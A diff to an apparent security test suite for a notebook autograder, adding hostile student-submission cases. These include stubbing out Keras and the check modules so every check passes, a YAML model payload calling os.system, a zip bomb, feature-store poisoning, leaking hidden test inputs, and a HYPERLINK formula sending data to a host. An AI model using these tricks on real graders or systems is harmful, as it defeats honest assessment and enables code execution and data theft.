@@ -7,10 +7,12 @@ from __future__ import annotations
 
 import json
 import os
+import zipfile
 from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
 
+from course_utils.grading import template
 from course_utils.grading.outcomes import Outcome
 
 HIDDEN = "hidden line 7781"
@@ -73,6 +75,7 @@ class Case:
         cells: changes the list of cells.
         raw: the notebook's bytes, in place of cells.
         kernel: the kernel that the notebook asks for.
+        never: texts that the student must not get to see, beside the hidden line.
         prepare: makes further files in the submission's folder.
     """
 
@@ -85,6 +88,13 @@ class Case:
     raw: bytes | None = None
     prepare: Callable[[Path], None] | None = None
     kernel: str = "python3"
+    never: tuple[str, ...] = ()
+
+    @property
+    def engine_only(self) -> bool:
+        """Whether it attacks parts that only this engine has, or the network, which stock nbgrader gets none of here."""
+        own = ("grading.exporter", "argv.index('-f')", "SERVERS")
+        return any(part in text for text in (*self.answers.values(), *self.before.values()) for part in own)
 
     def write(self, folder: Path) -> None:
         """Writes the submission."""
@@ -143,6 +153,12 @@ def _model(layer: dict | None = None, **fields) -> str:
     config = {"name": "m", "layers": [entrance, layer or dense]}
     plain = {"module": "keras", "class_name": "Sequential", "config": config}
     return repr({"config": plain, "weights": [], "trainable": [], "compile": None, **fields})
+
+
+def _archive(folder: Path) -> None:
+    """A zip file of 60 kB that holds 60 MB."""
+    with zipfile.ZipFile(folder / "data.zip", "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("zeros", bytes(60_000_000))
 
 
 GRADED, TAMPERED, LATE = (Outcome.GRADED,), (Outcome.TAMPERED,), (Outcome.TIMED_OUT,)
@@ -250,6 +266,18 @@ CASES = [
         marks(2, 0, 1),
         answers={"values": "values = np.zeros(3) + 9"},
         before={"values": "import numpy\nnumpy.mean = lambda *a: 1.0\nnumpy.ndarray.__eq__ if 0 else None"},
+    ),
+    Case(
+        "modules put in place of Keras and the checks",
+        GRADED,
+        marks(0, 0, 1),
+        answers={"double": "def double(x):\n    return 3", "values": "values = [0]"},
+        before={
+            "double": "import sys, types\nclass Yes(types.ModuleType):\n"
+            "    def __getattr__(self, name): return lambda *a, **k: True\n"
+            "for name in ('keras', 'tensorflow', 'course_utils.checks', 'unittest', 'numpy.testing'):\n"
+            "    sys.modules[name] = Yes(name)"
+        },
     ),
     Case(
         "patched builtins",
@@ -445,6 +473,27 @@ CASES = [
             )
         },
     ),
+    Case(
+        "model in YAML that calls a program",
+        GRADED,
+        marks(2, 0, 1),
+        answers={
+            "values": _crossing("model", _model(config="!!python/object/apply:os.system ['touch /tmp/pwned']")),
+        },
+    ),
+    Case(
+        "model with a class of its own",
+        GRADED,
+        marks(2, 0, 1),
+        answers={
+            "values": _crossing(
+                "model",
+                _model(
+                    {"module": None, "class_name": "Evil", "registered_name": "Custom>Evil", "config": {"name": "e"}}
+                ),
+            )
+        },
+    ),
     Case("object of an unknown kind", GRADED, marks(2, 0, 1), answers={"values": _crossing("code", "'import os'")}),
     # --- looking around ---------------------------------------------------------------------------------------------
     Case(
@@ -499,7 +548,32 @@ CASES = [
             "SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"pwned()\"/>'), Javascript('pwned()'))"
         },
     ),
+    Case(
+        "exception that tells what a hidden test sent",
+        GRADED,
+        marks(0, 4, 1),
+        answers={"double": "def double(x):\n    if x != 2:\n        raise ValueError(f'it sent {x}')\n    return 4"},
+        never=("3.14159",),
+    ),
+    Case(
+        "poisoned feature store",
+        GRADED,
+        FULL,
+        before={
+            "values": "import os\nfor name in ('features.npz', 'more.npz'):\n    try:\n"
+            "        open(f'{STORE}/.{name}', 'w').write('pwned'); os.replace(f'{STORE}/.{name}', f'{STORE}/{name}')\n"
+            "    except OSError: pass"
+        },
+    ),
     # --- files ------------------------------------------------------------------------------------------------------
+    Case(
+        "archive that expands a thousandfold",
+        GRADED,
+        FULL,
+        prepare=_archive,
+        before={"values": "import zipfile\nzipfile.ZipFile('data.zip').extractall('data')"},
+    ),
+    Case('=HYPERLINK("http://host/"&A1) for a name', GRADED, FULL),
     Case(
         "link to a secret",
         GRADED,
@@ -524,8 +598,9 @@ CASES = [
     ),
     Case(
         "module that stands in for the kernel",
-        (Outcome.NEEDS_A_PERSON,),
-        marks(None, None, None),
+        # A kernel that is forked has been imported already.
+        GRADED if template.usable() else PERSON,
+        FULL if template.usable() else marks(None, None, None),
         prepare=lambda f: (f / "ipykernel_launcher.py").write_text("raise SystemExit"),
     ),
     Case(
